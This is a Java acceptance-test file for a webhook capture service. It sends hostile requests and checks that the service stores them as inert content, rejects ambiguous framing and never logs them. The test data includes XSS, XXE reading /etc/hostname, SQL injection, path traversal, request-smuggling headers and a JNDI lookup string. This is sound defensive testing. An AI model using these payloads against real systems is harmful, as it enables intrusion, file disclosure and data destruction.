package dev.hookwell.acceptance.wire;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookwell.acceptance.support.Answer;
import dev.hookwell.acceptance.support.ConcurrentTest;
import dev.hookwell.acceptance.support.NearMisses;
import dev.hookwell.acceptance.support.Recorded;
import dev.hookwell.acceptance.support.Witness;
import dev.hookwell.capture.Body;
import dev.hookwell.capture.Environment;
import dev.hookwell.capture.HookId;
import dev.hookwell.capture.HookKeys;
import dev.hookwell.capture.Shows;
import dev.hookwell.local.Client;
import dev.hookwell.local.Deadline;
import dev.hookwell.local.LocalSystem;
import dev.hookwell.local.folder.DataFolder;
import dev.hookwell.local.gateway.RawConnection;
import dev.hookwell.local.postgres.LocalDatabase;
import dev.hookwell.local.postgres.LocalDatabaseIT;
import dev.hookwell.store.Database;
import dev.hookwell.store.HookLimits;
import dev.hookwell.store.Retention;
import dev.hookwell.store.Retries;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile requests to hooks, by the numbers of their rows (H02–H54). Their content never reaches a
 * log: that is checked when all are done.
 */
final class HostileInputIT {
  private static final String CANARY = "c4n4ry";
  private static final int QUOTA = 50;
  private static final Set<String> KEYS = Collections.synchronizedSet(new TreeSet<>());

  @TempDir static Path data;

  private static Witness witness;
  private static String blocked = "";

  @BeforeAll
  static void start() {
    SecureRandom random = new SecureRandom();
    try (DataFolder folder = DataFolder.open(data, random)) {
      blocked =
          HookKeys.parse(folder.keys().hookKeys())
              .issue(Instant.now().plus(Duration.ofDays(1)), random)
              .text();
    }
    witness =
        Witness.start(
            new LocalSystem.Settings(
                0,
                data,
                Optional.empty(),
                false,
                false,
                Map.of("BLOCKED_HOOKS", blocked, "QUOTA_CAPTURES", Integer.toString(QUOTA))));
  }

  /** H51, over everything that was sent here. */
  @AfterAll
  static void nothingOfItIsLogged() throws IOException {
    witness.close();
    try (Stream<Path> logs = Files.walk(data.resolve("logs"))) {
      List<Path> files = logs.filter(Files::isRegularFile).toList();
      assertFalse(files.isEmpty());
      for (Path file : files) {
        String text = Files.readString(file, ISO_8859_1);
        assertFalse(text.contains(CANARY), file + " holds what was sent");
        for (String key : KEYS) {
          assertFalse(text.contains(key), file + " holds a key");
        }
      }
    }
    for (String line : Files.readAllLines(data.resolve("logs/hookwell.log"), UTF_8)) {
      if (line.contains(" dev.hookwell.functions ")) {
        assertTrue(Client.json(line.substring(line.indexOf('{'))).has("event"), line);
      }
    }
  }

  @ConcurrentTest
  @Shows({"H02", "H16"})
  void h02ToH04AndH16OddJsonIsKept() {
    List<Recorded> recorded =
        witness.record(
            Stream.of(
                    "{\"a\":\"\\u0000\"}",
                    "{\"a\":\"\\ud800\"}",
                    "{\"a\":1,\"a\":2,}",
                    "\uFEFF{\"bom\":NaN}",
                    "{'single':Infinity,}",
                    "[1,2",
                    "{\"__proto__\":{\"polluted\":1},\"constructor\":{\"prototype\":{}}}",
                    CANARY)
                .map(text -> json(text))
                .toList());
    recorded.forEach(one -> assertEquals(List.of(), one.notes()));
  }

  @ConcurrentTest
  @Shows("H13")
  void h11To13LimitsAreInBytesAndNotInCharacters() {
    int limit = 4 * 1024 * 1024;
    Recorded most = witness.post("text/plain", utf8("\u20ac".repeat(limit / 3) + "x"));
    assertEquals(Integer.toString(limit), most.text("bodySize"));
    Client.Hook hook = witness.hook();
    Answer more =
        witness.send(
            hook,
            "POST {hook} HTTP/1.1\nHost: a\nContent-Type: text/plain\nContent-Length: {size}\n\n",
            utf8("\u20ac".repeat(limit / 3) + "xy"));
    assertEquals(413, more.status());
    assertEquals(
        witness.recorded(hook, 1).getFirst().text("id"), more.json().get("id").textValue());
  }

  @ConcurrentTest
  @Shows("H14")
  void h14DeepNestingIsKept() {
    witness.post("application/json", utf8("[".repeat(20_000) + "]".repeat(20_000)));
  }

  @ConcurrentTest
  @Shows("H19")
  void h19AndH22MarkupAndEntitiesAreKeptAndNotParsed() {
    List<Recorded> recorded =
        witness.record(
            List.of(
                Witness.Request.post(
                    "Content-Type: multipart/form-data; boundary=x\n",
                    "",
                    utf8(
                        "--x\r\nContent-Disposition: form-data; name=\"f\";"
                            + " filename=\"\"><img src=x onerror=alert(1)>\"\r\n\r\n\r\n--x--\r\n")),
                Witness.Request.post(
                    "Content-Type: image/svg+xml\n", "", utf8("<svg onload=\"alert(1)\"/>")),
                Witness.Request.post(
                    "Content-Type: application/xml\n",
                    "",
                    utf8("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b;</a>")),
                Witness.Request.post(
                    "Content-Type: text/xml\n",
                    "",
                    utf8(
                        "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]>"
                            + "<l>&b;</l>"))));
    recorded.forEach(one -> assertEquals(List.of(), one.notes()));
  }

  @ConcurrentTest
  @Shows("H23")
  void h23AndH24OddHeadersAreKeptOrRefused() {
    StringBuilder many = new StringBuilder("X-Markup: <img src=x onerror=alert(1)>\n");
    many.append("X!#$%&'*+-.^_`|~: ").append(CANARY).append('\n');
    for (int i = 0; i < 300; i++) {
      many.append("h").append(i).append(": ").append(i).append('\n');
    }
    Recorded recorded = witness.record("GET {hook} HTTP/1.1\nHost: a\n" + many + "\n");
    assertEquals("<img src=x onerror=alert(1)>", recorded.header("x-markup"));
    assertEquals(CANARY, recorded.header("x!#$%&'*+-.^_`|~"));
    assertEquals("299", recorded.header("h299"));
    for (String name : List.of("<img>", "a b", "a(b)", "", "a\u00e9", "a\0b")) {
      Answer answer =
          witness.send(witness.hook(), "GET {hook} HTTP/1.1\nHost: a\n" + name + ": 1\n\n");
      assertEquals(400, answer.status(), name + answer.head());
    }
  }

  @ConcurrentTest
  @Shows({"H25", "S10"})
  void h25HeadsAreMeasuredToTheByte() {
    Client.Hook hook = witness.hook();
    String head = "GET /h/" + hook.id() + " HTTP/1.1\r\nHost: a\r\nX-Pad: ";
    for (int size : List.of(10_239, 10_240, 10_241)) {
      String padding = "p".repeat(size - head.length() - 2);
      Answer answer = witness.exchange((head + padding).replace("\r", "") + "\n\n");
      assertEquals(size > 10_240 ? 431 : 200, answer.status(), size + " bytes");
    }
    witness.recorded(hook, 2);
  }

  @ConcurrentTest
  @Shows("H27")
  void h27AndH28CookiesAndCredentialsAreKeptForTheReader() {
    Recorded recorded =
        witness.record(
            "GET {hook} HTTP/1.1\nHost: a\nCookie: a=1; b=<b>%s\nAuthorization: Bearer %s\n\n"
                .formatted(CANARY, CANARY));
    assertEquals(List.of("a=1", "b=<b>" + CANARY), recorded.cookies());
    assertEquals("Bearer " + CANARY, recorded.header("authorization"));
  }

  @ConcurrentTest
  @Shows("H29")
  void h29QueryThatCannotBeDecodedIsKept() {
    String query = "a=1&a=2&%zz&b=%00&=&c&%ff=%C0%AF&" + CANARY;
    assertEquals(
        query, witness.record("GET {hook}?" + query + " HTTP/1.1\nHost: a\n\n").text("query"));
  }

  @ConcurrentTest
  @Shows("H31")
  void h31PathsReachNoOtherRoute() {
    List<Recorded> recorded =
        witness.record(
            List.of(
                Witness.Request.get("/../../api/hooks"),
                Witness.Request.get("/%2e%2e%2f%2e%2e%2fapi%2fhealth"),
                Witness.Request.get("//;x=1/" + CANARY)));
    assertEquals("/../../api/hooks", recorded.get(0).tail());
    assertEquals("/../../api/health", recorded.get(1).tail());
    assertEquals("//;x=1/" + CANARY, recorded.get(2).tail());
    String id = witness.hook().id();
    for (String path :
        List.of(
            "/h/" + id + ";x=1",
            "/h//" + id,
            "//h/" + id,
            "/h/../h/" + id,
            "/h/../api/health",
            "/h/..%2fapi/health",
            "/h/%2e%2e/api/health",
            "/x/../h/" + id,
            "/H/" + id,
            "/%68/" + id,
            "/h%2f" + id,
            "/api/../api/health",
            "/api//health",
            "/api/health/")) {
      Answer answer = witness.exchange("GET " + path + " HTTP/1.1\nHost: a\n\n");
      assertEquals(404, answer.status(), path);
      assertEquals("application/problem+json", answer.header("content-type"));
    }
  }

  @ConcurrentTest
  @Shows({"H33", "S18"})
  void h33AndH35PathsThatLookLikeFilesAreNeverCachedAndNeverPages() {
    Client.Hook hook = witness.hook();
    for (String tail : List.of("/x.js", "/x.js", "/x.png", "/x.pdf", "/index.html")) {
      Answer answer =
          witness.send(
              hook,
              "GET {hook}" + tail + " HTTP/1.1\nHost: a\nPurpose: prefetch\nAccept: text/html\n\n");
      assertEquals(200, answer.status());
      assertEquals("no-store", answer.header("cache-control"));
      assertEquals("nosniff", answer.header("x-content-type-options"));
      assertEquals("application/json", answer.header("content-type"));
    }
    witness.recorded(hook, 5);
  }

  @ConcurrentTest
  @Shows("H37")
  void h37IdsThatAreNoneAreAnsweredByTheirFormAlone() {
    String id = witness.hook().id();
    assertOneAnswer(
        List.of(
            id.substring(0, 33) + "AAAAAAAAAAa",
            "B" + id.substring(1),
            "Az".repeat(22),
            witness.hook().id().substring(0, 22) + id.substring(22)));
    assertOneAnswer(List.of(id.substring(0, 43), "z", CANARY));
    assertOneAnswer(List.of("z".repeat(9_000), id + id));
    assertOneAnswer(List.of("<svg>", "'; DROP TABLE captures;--".replace(' ', '+')));
  }

  private static void assertOneAnswer(List<String> wrongs) {
    Set<String> answers = new TreeSet<>();
    for (String wrong : wrongs) {
      Answer answer = witness.exchange("GET /h/" + wrong + " HTTP/1.1\nHost: a\n\n");
      assertEquals(404, answer.status(), wrong);
      assertFalse(answer.text().contains(wrong), answer.text());
      answers.add(answer.text());
    }
    assertEquals(1, answers.size(), answers.toString());
  }

  @ConcurrentTest
  @Shows("H37")
  void h37AddressThatIsNearlyAHooksIsToldWhy() {
    NearMisses.assertTold(witness);
  }

  @ConcurrentTest
  @Shows({"H39", "S36"})
  void h39BlockedHookIs410AndWhatADeletedOneStillGetsIsDroppedAndCounted() throws Exception {
    Answer refused = witness.exchange("POST /h/" + blocked + " HTTP/1.1\nHost: a\n\n");
    assertEquals(410, refused.status());
    assertEquals("urn:hookwell:problem:hook-blocked", refused.json().get("type").textValue());

    Client.Hook hook = witness.hook();
    Answer deleted = witness.api("DELETE", "/api/hooks/" + hook.id(), bearer(hook.ownerKey()));
    assertEquals(204, deleted.status());
    assertEquals(200, witness.send(hook, "GET {hook} HTTP/1.1\nHost: a\n\n").status());
    Deadline deadline = Deadline.inSeconds(30);
    try (Connection connection = LocalDatabaseIT.connect(database())) {
      String dropped = "SELECT dropped_count FROM hooks, pg_sleep(0.05) WHERE hook_id = ?";
      while (number(connection, dropped, hook) != 1) {
        deadline.check("it was never counted");
      }
      assertEquals(0, number(connection, "SELECT count(*) FROM captures WHERE hook_id = ?", hook));
    }
  }

  @ConcurrentTest
  @Shows("H40")
  void h40ReaderKeyIsNoHookAndIsNotLogged() {
    Client.Hook hook = witness.hook();
    for (String key : List.of(hook.viewKey(), hook.ownerKey())) {
      KEYS.add(key);
      Answer answer =
          witness.exchange("GET /h/" + key + " HTTP/1.1\nHost: a\n" + bearer(key) + "\n");
      assertEquals(404, answer.status());
    }
  }

  @ConcurrentTest
  @Shows("H41")
  void h41AboveTheQuotaTheOldestAreEvictedAndCounted() throws Exception {
    Client.Hook full = witness.hook();
    Client.Hook other = witness.hook();
    assertEquals(200, witness.send(other, "GET {hook} HTTP/1.1\nHost: a\n\n").status());
    try (RawConnection connection = witness.connect()) {
      for (int i = 0; i < QUOTA + 10; i++) {
        connection.send("GET /h/" + full.id() + " HTTP/1.1\nHost: a\n\n");
        assertEquals(200, Answer.of(connection.receive()).status());
      }
    }
    witness.client().await(full, QUOTA + 10);
    witness.client().await(other, 1);

    Clock clock = Clock.systemUTC();
    try (Database database =
        new Database(
            database().databaseUrl(), Database.Settings.forFunction("retention-of-a-test"), true)) {
      new Retention(
              database,
              HookLimits.from(new Environment(Map.of("QUOTA_CAPTURES", Integer.toString(QUOTA)))),
              Retention.Batches.DEFAULT,
              clock,
              new Retries(clock, new SecureRandom(), Thread::sleep))
          .run(clock.instant().plusSeconds(30));
    }
    assertEquals(
        "{\"stored\":60,\"available\":50,\"evicted\":10,\"deleted\":0,\"bytes\":0}",
        witness.client().read(full, "").get("counts").toString());
    assertEquals(11, witness.client().read(full, "").get("firstSeq").intValue());
    assertEquals(1, witness.client().read(other, "").at("/counts/available").intValue());
  }

  @ConcurrentTest
  @Shows("H46")
  void h46LinksNeverComeFromTheHostHeader() {
    Answer created =
        witness.exchange(
            "POST /api/hooks HTTP/1.1\nHost: evil.example\nX-Forwarded-Host: evil.example\n\n");
    assertEquals(201, created.status());
    assertFalse(created.text().contains("evil"), created.text());
  }

  @ConcurrentTest
  @Shows("H47")
  void h47OddContentTypesAreKept() {
    List<String> types =
        List.of("", "x/" + "y".repeat(1024), "text/html;charset=<script>", ";;;=", CANARY);
    List<Recorded> recorded =
        witness.record(
            types.stream()
                .map(type ->
                    Witness.Request.post("Content-Type: " + type + "\n", "", utf8("<b>h\u00e9")))
                .toList());
    assertEquals(types, recorded.stream().map(one -> one.header("content-type")).toList());
    // Folded over two lines, and with a bare CR: kept or refused, and never our failure.
    for (String value : List.of("text/html;\n charset=utf-8", "text/html\rX: y")) {
      int status =
          witness
              .send(
                  witness.hook(), "POST {hook} HTTP/1.1\nHost: a\nContent-Type: " + value + "\n\n")
              .status();
      assertTrue(status == 200 || status == 400, value);
    }
  }

  @ConcurrentTest
  @Shows("H48")
  void h48AmbiguousLengthsAreRefusedAndSmuggleNothing() {
    Client.Hook hook = witness.hook();
    String smuggled = "GET /h/" + hook.id() + "/smuggled HTTP/1.1\nHost: a\n\n";
    for (String framing :
        List.of(
            "Content-Length: 5\nTransfer-Encoding: chunked\n\n0\n\n",
            "Transfer-Encoding: chunked\nContent-Length: 5\n\n0\n\n",
            "Transfer-Encoding: xchunked\n\n0\n\n",
            "Transfer-Encoding : chunked\n\n0\n\n",
            "Content-Length: 5\nContent-Length: 6\n\n",
            "Content-Length: 0x5\n\n")) {
      Answer answer =
          witness.exchange("POST /h/" + hook.id() + " HTTP/1.1\nHost: a\n" + framing + smuggled);
      assertEquals(400, answer.status(), framing);
    }
    assertEquals(200, witness.send(hook, "GET {hook}/next HTTP/1.1\nHost: a\n\n").status());
    assertEquals("/next", witness.recorded(hook, 1).getFirst().tail());
  }

  @ConcurrentTest
  @Shows("H49")
  void h49ConditionsRangesAndUpgradesChangeNothing() {
    List<Recorded> recorded =
        witness.record(
            Stream.of(
                    "Range: bytes=0-1\nIf-Range: x",
                    "If-None-Match: *\nIf-Modified-Since: Tue, 24 Nov 2026 00:00:00 GMT",
                    "Connection: Upgrade\nUpgrade: websocket\nSec-WebSocket-Version: 13\n"
                        + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                    "Connection: Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABk",
                    "Expect: the-unexpected")
                .map(headers ->
                    Witness.Request.of("GET {hook} HTTP/1.1\nHost: a\n" + headers + "\n\n"))
                .toList());
    assertEquals("bytes=0-1", recorded.get(0).header("range"));
    assertEquals("*", recorded.get(1).header("if-none-match"));
    assertEquals("13", recorded.get(2).header("sec-websocket-version"));
  }

  @ConcurrentTest
  @Shows("H51")
  void h51WhatLooksLikeALogLineIsKeptAsContent() {
    String injection = "%0A{\"level\":\"ERROR\"}%1B[2J%25n%25s${jndi:ldap://x/" + CANARY + "}{}{}";
    String header = "\u009b2J{}{}%n%s${jndi:ldap://x}" + CANARY;
    Recorded recorded =
        witness.post(
            "User-Agent: %s\nX-Log: %s\nContent-Type: text/plain\n"
                .formatted(header, header)
                .replace("%%", "%"),
            "/" + injection + "?" + injection,
            utf8("\n{\"level\":\"ERROR\"}\u001B[2J${jndi:ldap://x}" + CANARY));
    assertEquals(header, recorded.header("x-log"));
    assertEquals(
        "/\n{\"level\":\"ERROR\"}\u001B[2J%n%s${jndi:ldap://x/" + CANARY + "}{}{}",
        recorded.tail());
    assertEquals(injection, recorded.text("query"));
  }

  @ConcurrentTest
  @Shows("H52")
  void h52SqlIsContentLikeAnyOther() {
    String sql = "'; DROP TABLE captures;--";
    Recorded recorded =
        witness.post(
            "X-Sql: " + sql + "\nCookie: a=" + sql + "\n",
            "/" + sql.replace(" ", "%20") + "?" + sql.replace(" ", "+"),
            utf8(sql));
    assertEquals(sql, recorded.header("x-sql"));
    String api = "/api/hooks/" + recorded.hook().id() + "/captures/";
    String key = bearer(recorded.hook().viewKey());
    assertEquals(404, witness.api("GET", api + "1'%20OR%20'1'='1", key).status());
    assertEquals(200, witness.api("GET", api + "1", key).status());
  }

  @ConcurrentTest
  @Shows("H54")
  void h54OneLongLineAndAMillionLinesAreKept() {
    witness.record(
        List.of(
            json("\"" + "l".repeat(4 * 1024 * 1024 - 2) + "\""), json("1\n".repeat(1_000_000))));
  }

  @ConcurrentTest
  @Shows("S29")
  void canariesInWhatIsRefusedAreNotLoggedEither() {
    for (String wire :
        List.of(
            CANARY.toUpperCase(Locale.ROOT) + CANARY + " / HTTP/1.1\nHost: a\n\n",
            "GET " + CANARY + " HTTP/1.1\nHost: a\n\n",
            "GET /" + CANARY + " HTTP/1.1\nHost: a\n\n",
            "GET /" + CANARY + " HTTP/9.9\nHost: a\n\n",
            "GET /api/hooks/" + CANARY + " HTTP/1.1\nHost: a\nAuthorization: " + CANARY + "\n\n",
            "GET /assets/" + CANARY + " HTTP/1.1\nHost: a\n\n",
            "GET /h/x HTTP/1.1\n" + CANARY + "\n\n",
            "GET /h/x HTTP/1.1\nHost: " + CANARY + "\nHost: " + CANARY + "\n\n",
            "POST /h/x HTTP/1.1\nHost: a\nContent-Length: " + CANARY + "\n\n",
            "POST /h/x HTTP/1.1\nHost: a\nTransfer-Encoding: chunked\n\n" + "2\n" + CANARY)) {
      try {
        int status = witness.exchange(wire).status();
        assertTrue(status >= 400 && status < 500, wire + status);
      } catch (UncheckedIOException e) {
        // Closed without a response: no bytes after a broken chunk can be trusted.
        assertTrue(wire.contains("chunked"), wire);
      }
    }
  }

  private static Witness.Request json(String text) {
    return new Witness.Request(
        """
        POST {hook} HTTP/1.1
        Host: a
        Content-Type: application/json
        Content-Length: {size}

        """,
        Body.copyOf(utf8(text)));
  }

  private static LocalDatabase database() {
    return witness.system().ownDatabase().orElseThrow();
  }

  private static long number(Connection connection, String sql, Client.Hook hook)
      throws SQLException {
    try (PreparedStatement statement = connection.prepareStatement(sql)) {
      statement.setObject(1, HookId.parse(hook.id()).orElseThrow().uid().value());
      try (ResultSet rows = statement.executeQuery()) {
        return rows.next() ? rows.getLong(1) : -1;
      }
    }
  }

  private static String bearer(String key) {
    return "Authorization: Bearer " + key + "\n";
  }

  private static byte[] utf8(String text) {
    return text.getBytes(UTF_8);
  }
}
